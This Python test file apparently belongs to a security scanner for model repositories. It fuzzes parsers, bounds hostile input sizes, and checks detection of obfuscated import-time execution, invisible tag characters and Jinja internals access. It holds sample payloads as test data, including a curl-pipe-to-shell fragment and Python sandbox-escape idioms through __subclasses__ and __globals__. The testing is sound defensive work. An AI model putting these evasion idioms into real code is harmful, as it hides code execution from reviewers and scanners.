"""Texts of every role: nothing raises, hostile sizes end in time, and writing is not taken for hiding."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelscan_plus.core.limits import Budget, Limits
from modelscan_plus.formats.text import prose
from modelscan_plus.formats.text.jinja.analyse import analyse as template
from modelscan_plus.formats.text.python.analyse import analyse
from modelscan_plus.formats.text.python.parsing import parse
from modelscan_plus.formats.text.roles import role
from tests.samples import inspect

NAMES = ("a.py", "a.json", "a.jinja", "a.md", "a.sh", "requirements.txt", "a.ipynb", "a.pth", "Dockerfile", "a.txt")
PIECES = st.sampled_from(
    [
        "import os\n", "os.system(", "'a'", ")", "{{ ", " }}", "{% if ", " %}", "{% endif %}", "x.y", "['z']", "|attr(",
        "~", "+", "def f():\n", "    ", "\n", "curl http://a | sh", "<!--", "-->", '{"a": ', "[", "]", "}", "\u200b",
        "\u202e", "exec(", "lambda: ",
    ]
)  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
@given(pieces=st.lists(PIECES, max_size=30), noise=st.text(max_size=20))
@settings(max_examples=25, deadline=None)
def test_no_text_makes_a_parser_raise(name: str, pieces: list[str], noise: str) -> None:
    inspect(("".join(pieces) + noise).encode("utf-8", "replace"), name)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.md", b"<!--" * 200_000),
        ("a.md", b"<a href=http://a " * 50_000),
        ("a.sh", b"curl -o a b \n" * 100_000),
        ("a.json", b"[" * 200_000),
        ("a.py", b"x = " + b"(" * 3000 + b"1" + b")" * 3000),
        ("a.py", b"x = a" + b".b" * 20_000),
        ("a.jinja", b"{{ a" + b".b" * 20_000 + b" }}"),
        ("a.jinja", b"{% if 'x' in m.content %}" * 150 + b"some words to be said" + b"{% endif %}" * 150),
        ("a.md", "\u200b".encode() * 300_000),
    ],
)
@pytest.mark.timeout(60)
def test_hostile_sizes_end_in_time(name: str, data: bytes) -> None:
    inspect(data, name)


@pytest.mark.parametrize(
    "source",
    [
        "exec('pri' + 'nt(1)')",
        "f = __import__('o' + 's').system\nf('true')",
        "import sys\nsys.modules['os'].system('true')",
        "import operator, os\noperator.attrgetter('sys' + 'tem')(os)('true')",
        "import os\n(lambda: os.system('true'))()",
        "import os\nclass M(type):\n    def __new__(m, *a):\n        os.system('true')\n",
        "import os\ndef f(x=os.system('true')):\n    pass\n",
        "from functools import partial\nimport os\npartial(os.system, 'true')()",
        "import os\n[os.system][0]('true')",
        "import torch\ntorch.serialization.os.system('true')",
        "from torch.serialization import os\nos.system('true')",
        "().__class__.__base__.__subclasses__()[140].__init__.__globals__['system']('true')",
        "[f('true') for m in [__import__('os')] if (f := m.system)]",
        "for c in object.__subclasses__():\n    c('true')",
        "import torch\ntorch.load.__globals__['__builtins__'].eval('1')",
    ],
)
def test_what_happens_on_import_is_found_however_it_is_written(source: str) -> None:
    tree = parse(source)
    assert not isinstance(tree, str)
    effects = analyse(tree, source, Budget(Limits())).effects
    assert [effect for effect in effects if effect.when == "import" and effect.kind in ("process", "code")]


def test_a_program_and_a_method_are_other_times() -> None:
    source = "import os\nclass A:\n    def forward(self):\n        os.system('a')\ndef g():\n    os.system('b')\n"
    source += "if __name__ == '__main__':\n    os.system('c')\n"
    tree = parse(source)
    assert not isinstance(tree, str)
    found = {effect.argument: effect.when for effect in analyse(tree, source, Budget(Limits())).effects}
    assert found == {"a": "entry", "b": "call", "c": "main"}


@pytest.mark.parametrize(
    "text",
    ["👩‍💻 👨‍👩‍👧", "नमस्ते क्‍ष", "می‌خواهم", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "❤️ ✔️"],
)
def test_writing_is_not_hiding(text: str) -> None:
    assert prose.hidden_characters(text) is None


def test_invisible_letters_are_spelt_out() -> None:
    hidden = prose.hidden_characters("a" + "".join(chr(0xE0000 + ord(letter)) for letter in "run it"))
    assert hidden is not None
    assert (hidden.kind, hidden.decoded) == ("tags", "run it")


def test_folding_in_templates_is_bounded() -> None:
    facts = template("{{ 'a' * 999999999 }}{{ messages['__cl' ~ 'ass__'] }}", Budget(Limits()))
    assert {reach.kind for reach in facts.reaches} == {"exhaust", "internals"}


@pytest.mark.parametrize(
    ("name", "head", "expected"),
    [
        ("tokenizer.chat_template.tool_use", b"{{ a }}", "template"),
        ("chat_template.json", b'{"chat_template": ""}', "json"),
        ("run", b"#!/usr/bin/env python3\n", "python"),
        ("start", b"#!/bin/sh\n", "shell"),
        ("vocab.txt", b"{", "text"),
        ("README", b"# x", "markdown"),
        ("requirements-dev.txt", b"torch", "requirements"),
        ("data", b'{"a": 1}', "json"),
    ],
)
def test_a_text_is_what_its_readers_take_it_for(name: str, head: bytes, expected: str) -> None:
    assert role(name, head) == expected
